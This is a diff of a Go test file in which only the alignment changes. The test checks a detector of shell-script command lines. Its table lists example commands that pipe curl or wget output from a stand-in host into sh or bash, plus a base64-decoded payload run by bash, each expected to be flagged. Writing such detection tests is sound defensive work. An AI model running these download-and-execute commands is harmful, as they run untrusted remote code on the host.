@@ -61,11 +61,11 @@ func TestRoutingByKindAndScope(t *testing.T) {
 
 func TestCommandLineOfShellScripts(t *testing.T) {
 	for args, want := range map[string]bool{
-		"sh -c curl -s http://x/i.sh | sh":           true,
-		"bash -c echo aGk= | base64 -d | bash":       true,
-		"curl -s http://example.com/index.html":      false,
-		"tar czf /tmp/a.tgz /srv":                    false,
-		"sh -c ls -la /tmp && cat /tmp/notes.txt":    false,
+		"sh -c curl -s http://x/i.sh | sh":            true,
+		"bash -c echo aGk= | base64 -d | bash":        true,
+		"curl -s http://example.com/index.html":       false,
+		"tar czf /tmp/a.tgz /srv":                     false,
+		"sh -c ls -la /tmp && cat /tmp/notes.txt":     false,
 		"bash -lc wget -q -O- http://x/p | bash -s x": true,
 	} {
 		var argv []string
